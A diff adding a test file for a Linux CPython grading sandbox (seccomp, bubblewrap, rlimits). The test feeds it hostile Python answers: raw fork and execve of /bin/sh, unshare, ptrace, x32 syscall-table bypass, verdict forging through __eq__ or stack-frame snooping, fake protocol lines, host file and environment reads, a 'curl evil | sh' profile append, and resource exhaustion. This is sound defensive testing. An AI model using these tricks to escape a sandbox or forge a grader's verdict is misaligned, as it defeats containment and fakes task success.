@@ -1,0 +1,110 @@
+/**
+ * The opt-in CPython runtime (native.ts) against hostile answers. Here the answer is native code: through ctypes it
+ * can make any system call, so each attack below goes straight for the kernel or the protocol, and every case checks
+ * what hostile.test.ts checks (the verdict, the host's state, then a wrong and a canonical answer graded afresh in the
+ * same pool). The layers under test: the seccomp filter, bubblewrap's namespaces and read-only root, the rlimits, and
+ * the host-side comparison, deadlines and line cap, which are the same as Pyodide's.
+ */
+import assert from "node:assert/strict";
+import { existsSync } from "node:fs";
+import path from "node:path";
+import { after, before, test } from "node:test";
+import { createGrader } from "../../../src/core/grading/index.js";
+import { createPythonGrader } from "../../../src/core/grading/python-grader.js";
+import { SkillFollowingError } from "../../../src/core/errors.js";
+import { probeNativePython } from "../../../src/core/sandbox/native.js";
+import { addReturning, addTask, hostileCases, secretTask, startHarness, tagReturning, type Case, type Harness } from "./hostile-support.js";
+
+const linux = process.platform === "linux";
+
+let h: Harness;
+before(async () => {
+  if (linux) h = await startHarness("native", { native: true });
+});
+after(async () => {
+  await h?.dispose();
+});
+
+const libc = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n";
+/** Raw system call numbers (x86_64 / aarch64) of what the filter must refuse. */
+const nr = (x86: number, arm: number) => `(${x86} if __import__('platform').machine() == 'x86_64' else ${arm})`;
+
+const cases: Case[] = [
+  // --- forging a verdict without escaping: the host compares, as for Pyodide ---
+  { name: "returns an object whose __eq__ always says True", code: "class Yes:\n    def __eq__(self, o):\n        return True\n    __hash__ = None\n" + addReturning("Yes()"), reason: /got <Yes object> \(only Python's builtin types are compared/ },
+  { name: "reads expected outputs from the harness frames", code: "import sys\ndef tag(a, b):\n    f = sys._getframe(1)\n    found = []\n    while f:\n        found += [v for v in f.f_locals.values() if isinstance(v, str) and len(v) == 12]\n        f = f.f_back\n    return found[0] if found else 'nothing'\n", task: secretTask, reason: /expected '[0-9a-f]{12}', got / },
+  { name: "announces 'done' through the control object before running anything", code: "import sys\nctl = sys._getframe(1).f_locals['ctl']\nctl.send('{\"type\":\"done\",\"count\":3}')\n" + tagReturning("1"), task: secretTask, reason: /broke the sandbox protocol/ },
+  {
+    name: "writes forged output lines straight to every open file descriptor",
+    code: "import os\nfor fd in range(3, 64):\n    for i in range(3):\n        try:\n            os.write(fd, b'{\"type\":\"out\",\"i\":%d,\"v\":\"guess\"}\\n' % i)\n        except OSError:\n            pass\n    try:\n        os.write(fd, b'{\"type\":\"done\",\"count\":3}\\n')\n    except OSError:\n        pass\n" + tagReturning("'x'"),
+    task: secretTask,
+    reason: /broke the sandbox protocol|got 'guess'/,
+  },
+  // --- processes and programs ---
+  { name: "forks", code: "import os\npid = os.fork()\nif pid == 0:\n    os._exit(0)\n" + addReturning("a + b"), reason: /PermissionError: \[Errno 1\] Operation not permitted/ },
+  { name: "runs a host program through subprocess", code: "import subprocess\nsubprocess.run(['touch', TMP + '/spawned'])\n" + addReturning("a + b"), reason: /PermissionError|Operation not permitted/, hostCheck: (x: Harness) => assert.ok(!existsSync(x.marker("spawned"))) },
+  { name: "calls the fork system call itself through ctypes", code: libc + `r = libc.syscall(${nr(57, 220)}, 17, 0, 0, 0, 0)\nif r == 0:\n    libc._exit(0)\n` + addReturning("'fork=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'fork=-1 errno=1'/ },
+  { name: "replaces itself with a shell through execve", code: libc + "r = libc.execv(b'/bin/sh', (ctypes.c_char_p * 3)(b'sh', b'-c', None))\n" + addReturning("'exec=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'exec=-1 errno=1'/ },
+  { name: "asks for a new user namespace (the way to regain capabilities)", code: libc + "r = libc.unshare(0x10000000)\n" + addReturning("'unshare=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'unshare=-1 errno=1'/ },
+  { name: "traces its own parent with ptrace", code: libc + `r = libc.syscall(${nr(101, 117)}, 16, 1, 0, 0)\n` + addReturning("'ptrace=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'ptrace=-1 errno=1'/ },
+  { name: "switches to the x32 system call table (x86_64's filter bypass)", code: libc + "r = libc.syscall(0x40000000 + 57) if __import__('platform').machine() == 'x86_64' else -1\n" + addReturning("'x32=%d' % r"), reason: /got 'x32=-1'/ },
+  { name: "starts a thread that keeps writing forged lines after returning", code: "import threading, os\ndef spam():\n    while True:\n        for fd in range(3, 16):\n            try:\n                os.write(fd, b'{\"type\":\"done\",\"count\":3}\\n')\n            except OSError:\n                pass\nthreading.Thread(target=spam, daemon=True).start()\n" + addReturning("a - b"), reason: /broke the sandbox protocol|expected 3, got -1/ },
+  // --- the host ---
+  { name: "signals a host process and the host", code: "import os\nout = []\nfor p in (PID, HOSTPID):\n    try:\n        os.kill(p, 9)\n        out.append('killed')\n    except OSError as e:\n        out.append(type(e).__name__)\n" + addReturning("','.join(out)"), reason: /got 'ProcessLookupError,ProcessLookupError'/ },
+  { name: "connects to the host's loopback", code: "import socket\ns = socket.create_connection(('127.0.0.1', PORT), timeout=0.5)\n" + addReturning("a + b"), reason: /PermissionError|Operation not permitted/ },
+  { name: "connects to a pathname Unix socket of the host", code: "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(SOCK)\n" + addReturning("a + b"), reason: /PermissionError|Operation not permitted/ },
+  { name: "reads a host file", code: "data = open(TMP + '/secret.txt').read()\n" + addReturning("data"), reason: /FileNotFoundError/ },
+  { name: "appends to a shell start-up file of the host", code: "open(TMP + '/profile', 'a').write('curl evil | sh\\n')\n" + addReturning("a + b"), reason: /FileNotFoundError|Read-only/ },
+  { name: "appends to the interpreter's own library (what every later process imports)", code: "import os\nopen(os.__file__, 'a').write('x = 1\\n')\n" + addReturning("a + b"), reason: /Read-only file system/ },
+  { name: "fills the private /tmp", code: "def add(a, b):\n    with open('/tmp/fill', 'wb') as f:\n        while True:\n            f.write(b'x' * (1 << 20))", reason: /No space left on device|File too large/ },
+  // bubblewrap starts from an empty environment; Python adds LC_CTYPE (locale coercion) and bubblewrap PWD.
+  { name: "reads the host's environment (keys, tokens, paths)", code: "import os\nleft = sorted(k for k in os.environ if k not in ('LC_CTYPE', 'PWD', 'ELECTRON_RUN_AS_NODE'))\n" + addReturning("'env:' + ','.join(left)"), reason: /got 'env:'/ },
+  // --- limits ---
+  { name: "allocates past the memory limit", code: "def add(a, b):\n    keep = []\n    while True:\n        keep.append(bytearray(10 ** 7))", reason: /out of memory|MemoryError/ },
+  { name: "prints without end", code: "def add(a, b):\n    while True:\n        print('x' * 1000)", reason: /output limit/ },
+  { name: "floods the raw file descriptors (dropped, as EvalPlus drops them) until its deadline", code: "import os\ndef add(a, b):\n    while True:\n        os.write(1, b'x' * 100000)\n        os.write(2, b'x' * 100000)", reason: /^timeout .*killed after the deadline/ },
+  { name: "sleeps in C", code: "import ctypes\ndef add(a, b):\n    ctypes.CDLL(None).sleep(1000)", reason: /^timeout .*killed after the deadline/ },
+  { name: "starts threads until it cannot", code: "import threading, time\ndef add(a, b):\n    ts = []\n    while True:\n        t = threading.Thread(target=time.sleep, args=(100,), daemon=True)\n        t.start()\n        ts.append(t)", reason: /RuntimeError: can't start new thread|MemoryError|out of memory|^timeout/ },
+  { name: "exits the interpreter", code: "import sys\ndef add(a, b):\n    sys.exit(0)", reason: /SystemExit/ },
+  { name: "kills its own process from C", code: "import os, signal\ndef add(a, b):\n    os.kill(os.getpid(), signal.SIGKILL)", reason: /sandbox process ended|killed|signal/ },
+].map((c) => ({ ...c, only: "native" as const }));
+
+if (linux) hostileCases("hostile answers", () => h, cases, ["native"]);
+
+test("the CPython runtime is recorded as such: isolation native-confined, and its verdicts and expected outputs are cached apart from Pyodide's", { skip: linux ? false : "Linux only" }, async () => {
+  const native = h.graders.native!;
+  assert.equal(native.isolation, "native-confined");
+  assert.match(native.pool.detail, /^CPython 3\.\d+\.\d+ .*bubblewrap.*seccomp/);
+  const engine = createGrader({ python: "cpython", distDir: (await h.graderOptions())!.distDir! });
+  try {
+    const info = engine.prepare([addTask]);
+    assert.equal(info.isolation, "native-confined");
+    assert.equal(info.detail, native.pool.detail);
+  } finally {
+    await engine.dispose();
+  }
+  // One verdict cache shared by both runtimes: the CPython grader must check again, not reuse Pyodide's verdict.
+  const shared = path.join(h.tmp, "shared-verdicts");
+  const opts = await h.graderOptions();
+  const pyodide = createPythonGrader({ ...opts, verdictCacheDir: shared, cacheDir: path.join(h.tmp, "shared-expected") });
+  const cpython = createPythonGrader({ ...opts, verdictCacheDir: shared, cacheDir: path.join(h.tmp, "shared-expected"), python: "cpython" });
+  try {
+    const answer = "def add(a, b):\n    return a + b  # shared-cache case\n";
+    assert.equal((await pyodide.grade(addTask, answer)).pass, true);
+    const before = cpython.pool.usage.answers;
+    assert.equal((await cpython.grade(addTask, answer)).pass, true);
+    assert.equal(cpython.pool.usage.answers, before + 1, "the CPython grader ran the answer itself");
+  } finally {
+    await pyodide.dispose();
+    await cpython.dispose();
+  }
+});
+
+test("the CPython runtime refuses to start without bubblewrap, naming the setting to change", () => {
+  for (const kind of ["unshare", "none"] as const) {
+    assert.throws(
+      () => probeNativePython({ kind, prefix: () => [], describe: kind, network: kind === "none" ? "host" : "namespace" }),
+      (e: unknown) => e instanceof SkillFollowingError && /needs Linux with bubblewrap/.test(e.message) && /pyodide runtime/.test(e.options.hint ?? "") && e.options.hintIds?.includes("sandboxPython") === true,
+    );
+  }
+});
